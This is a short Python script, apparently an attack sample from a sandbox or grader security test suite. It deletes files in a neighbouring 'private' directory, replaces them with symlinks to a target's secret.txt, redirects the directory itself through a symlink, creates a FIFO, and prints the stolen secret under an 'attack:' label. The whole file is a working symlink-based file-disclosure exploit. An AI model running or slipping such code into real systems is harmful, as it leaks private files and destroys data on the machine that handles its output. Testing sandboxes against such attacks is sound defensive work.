"""Places links to files of the machine where its output is read, and follows one itself."""

import os

secret = os.environ["TARGET"] if "TARGET" in os.environ else "{target}"
private = os.path.join(os.path.dirname(os.getcwd()), "private")
for name in ("printed", "files.json"):
    if os.path.exists(os.path.join(private, name)):
        os.remove(os.path.join(private, name))
    os.symlink(secret + "/secret.txt", os.path.join(private, name))
os.rename(private, private + "-2")
os.symlink(secret, private)
os.symlink(secret, "out")
os.mkfifo("pipe")
if os.path.exists("out/secret.txt"):
    print("attack:", open("out/secret.txt").read())
